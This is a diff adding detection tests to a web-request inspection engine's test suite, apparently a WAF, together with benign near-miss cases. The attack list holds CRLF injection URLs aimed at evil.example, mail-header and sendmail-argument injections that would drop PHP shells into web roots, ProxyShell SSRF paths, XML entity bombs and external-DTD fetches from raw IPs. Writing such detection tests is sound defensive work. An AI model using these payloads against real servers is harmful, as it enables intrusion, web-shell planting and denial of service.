@@ -218,3 +218,94 @@ def test_compiled_database_is_cached_and_reloaded(tmp_path, monkeypatch):
         assert types(e.inspect(req("/?q=1%20union%20select%201"))) == {"sqli"}
     cached[0].write_bytes(b"garbage")  # a corrupt cache is recompiled, not trusted
     assert types(Engine().inspect(req("/?q=%3Cscript%3E"))) == {"xss"}
+
+
+# --- Round 5 (blind batches): CRLF through line breaks that only appear after a server mangles the value, mail
+# header / sendmail-argument injection, Exchange explicit-logon path confusion (ProxyShell), entity expansion bombs and
+# external DTDs on raw addresses. Written before the fix and measured on the code before round 5's changes.
+_FORM = [("Content-Type", "application/x-www-form-urlencoded")]
+_XML = [("Content-Type", "application/xml")]
+
+
+def _form(field: str, value: str) -> tuple[str, str, list[tuple[str, str]], bytes]:
+    from urllib.parse import quote_plus
+    return ("/contact/send", "POST", _FORM, f"name=Jo&{field}={quote_plus(value)}&submit=Send".encode())
+
+
+def _xml(doc: str) -> tuple[str, str, list[tuple[str, str]], bytes]:
+    return ("/api/v1/import", "POST", _XML, doc.encode())
+
+
+_LOL = "".join(f'<!ENTITY b{i} "{"".join(f"&b{i - 1};" for _ in range(8))}">' for i in range(1, 7))
+R5_ATTACKS = [
+    # CJK characters whose code points end in 0x0A / 0x0D: servers that keep the low byte emit LF / CR
+    ("crlf", ("/%E5%98%8A%E5%98%8DLocation:%20https://evil.example/", "GET", [], b"")),
+    ("crlf", ("/redirect?next=%E5%98%8D%E5%98%8ASet-Cookie:%20session=attacker", "GET", [], b"")),
+    ("crlf", ("/api?lang=en%E5%98%8A%E5%98%8DX-Forwarded-Host:%20evil.example", "GET", [], b"")),
+    ("crlf", ("/%E5%98%8A%E5%98%8DContent-Length:%200%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8DHTTP/1.1%20200%20OK", "GET", [], b"")),
+    # a `%` in front of an encoded line break: filters that strip `%0a` once leave one behind
+    ("crlf", ("/%%0d0aLocation:%20//evil.example", "GET", [], b"")),
+    ("crlf", ("/search?q=a%%0a0aSet-Cookie:x=1", "GET", [], b"")),
+    ("crlf", ("/x%250d%250aSet-Cookie:a=b", "GET", [], b"")),
+    # mail header + body injection through a single-line field
+    ("mail_injection", _form("subject", "Invoice\r\nContent-Disposition: attachment; filename=x.html\r\n\r\n<html>pay</html>")),
+    ("mail_injection", _form("name", "Bob\nContent-Type: multipart/mixed; boundary=xyz\n\n--xyz\nhi")),
+    ("mail_injection", _form("email", "a@b.example\r\nContent-Transfer-Encoding: base64\r\n\r\nPGI+aGk8L2I+")),
+    # sendmail arguments smuggled into a sender / recipient address (PHPMailer, Zend, SwiftMailer, Roundcube)
+    ("mail_injection", _form("email", '"x\\" -oQ/tmp -X/var/www/uploads/log.phtml y"@example.org')),
+    ("mail_injection", _form("from", "me@example.org -X/srv/http/public/shell.php")),
+    ("mail_injection", _form("sender", "a@b.example -C/tmp/evil.cf -X/var/www/html/x.php")),
+    ("mail_injection", _form("reply_to", "noreply@shop.example -OQueueDirectory=/tmp -X /home/site/public_html/c.php")),
+    # Exchange explicit-logon path confusion (ProxyShell CVE-2021-34473, ProxyNotShell CVE-2022-41040)
+    ("ssrf", ("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "GET", [], b"")),
+    ("ssrf", ("/autodiscover/autodiscover.json?@attacker.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@attacker.example", "GET", [], b"")),
+    ("ssrf", ("/autodiscover/autodiscover.json?a..foo.var/owa/?&Email=autodiscover/autodiscover.json?a..foo.var&Protocol=XYZ", "GET", [], b"")),
+    ("ssrf", ("/Autodiscover/Autodiscover.json?@foo.example/ecp/DDI/DDIService.svc/GetList?&Email=Autodiscover/Autodiscover.json%3f@foo.example", "GET", [], b"")),
+    # entity expansion bombs (billion laughs, quadratic blowup) with the parser no longer expanding them
+    ("xxe", _xml(f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY b0 "xxxxxxxx">{_LOL}]><d>&b6;</d>')),
+    ("xxe", _xml('<!DOCTYPE q [<!ENTITY x "' + "A" * 2000 + '">]><q>' + "&x;" * 60 + "</q>")),
+    ("xxe", _xml('<!DOCTYPE svg [<!ENTITY ha "Ha !"><!ENTITY ha2 "&ha; &ha; &ha; &ha; &ha;"><!ENTITY ha3 "&ha2; &ha2; &ha2; &ha2; &ha2;">]><svg>&ha3;</svg>')),
+    ("xxe", _xml('<!DOCTYPE r [<!ENTITY e-0 "e"><!ENTITY e-1 "&e-0;&e-0;&e-0;&e-0;&e-0;&e-0;"><!ENTITY e-2 "&e-1;&e-1;&e-1;&e-1;&e-1;&e-1;">]><r>&e-2;</r>')),
+    # external DTDs fetched from raw addresses or through non-HTTP schemes
+    ("xxe", _xml('<!DOCTYPE foo SYSTEM "http://198.51.100.23:8080/evil.dtd"><foo/>')),
+    ("xxe", _xml('<!DOCTYPE r PUBLIC "-//ACME//DTD R//EN" "http://10.0.0.8/r.dtd"><r/>')),
+    ("xxe", _xml('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://[2001:db8::5]/p.dtd"><plist/>')),
+    ("xxe", _xml('<!DOCTYPE note SYSTEM "ftp://203.0.113.5/note.dtd"><note>x</note>')),
+    ("xxe", _xml('<!DOCTYPE x SYSTEM "jar:http://10.0.0.1/a.jar!/b.dtd"><x/>')),
+]
+R5_BENIGN = [
+    ("/zh/wiki/%E5%98%8A%E5%98%8D", "GET", [], b""),
+    ("/search?q=%E5%98%8D%E5%98%8D%20location", "GET", [], b""),
+    ("/cz/cena?text=200%20K%C4%8D%20server%3A%20Praha", "GET", [], b""),
+    ("/docs/percent?ex=100%25%200a", "GET", [], b""),
+    _form("message", "tar's -C /tmp option, curl's -X POST and a Content-Type: application/json header"),
+    _form("message", "HTTP/1.1 415 Unsupported Media Type\r\nContent-Type: application/problem+json\r\n\r\n{\"title\": \"x\"}"),
+    _form("message", "POST /api/orders HTTP/1.1\nContent-Type: application/json\n\n{\"id\": 1}"),
+    _form("email", "first.last+tag@example.com"),
+    _form("message", "Hi team\r\nContent-Type: text/html is what /api/export returns, not CSV.\r\nThanks"),
+    _form("message", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--xyz--"),
+    _form("message", "java -Xmx512m -jar app.jar, then sendmail -t -oi < message.txt"),
+    ("/autodiscover/autodiscover.json?Email=jane.doe@contoso.example&Protocol=AutodiscoverV1&RedirectCount=1", "GET", [], b""),
+    ("/autodiscover/autodiscover.json/v1.0/jane@contoso.example?Protocol=EWS", "GET", [], b""),
+    ("/search?q=autodiscover.json%3FEmail%3Duser%40contoso.example", "GET", [], b""),
+    _xml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
+         '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>'),
+    _xml('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>'),
+    _xml('<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="x"/>'),
+    _xml('<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd"><properties><entry key="a">b</entry></properties>'),
+    _xml('<!DOCTYPE doc [<!ENTITY company "Acme Corp"><!ENTITY product "&company; Widget">]><doc>&product;</doc>'),
+    _form("body", "&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;"),
+    _form("body", "<p>&nbsp;&nbsp;&nbsp;&nbsp;indented &mdash; &hellip;</p>"),
+    _form("message", "see http://192.168.1.10/setup.xml on the router"),
+]
+
+
+@pytest.mark.parametrize("kind,request_args", R5_ATTACKS, ids=[f"{k}:{a[0][:40]}:{a[3][:30]!r}" for k, a in R5_ATTACKS])
+def test_round5_attacks_are_detected(engine, kind, request_args):
+    assert kind in types(engine.inspect(req(*request_args))), request_args
+
+
+@pytest.mark.parametrize("request_args", R5_BENIGN, ids=[f"{a[0][:40]}:{a[3][:30]!r}" for a in R5_BENIGN])
+def test_round5_near_misses_are_clean(engine, request_args):
+    hits = engine.inspect(req(*request_args))
+    assert verdict(hits) == "clean", [(h.rule, h.point, h.score) for h in hits if h.score >= THRESHOLD]
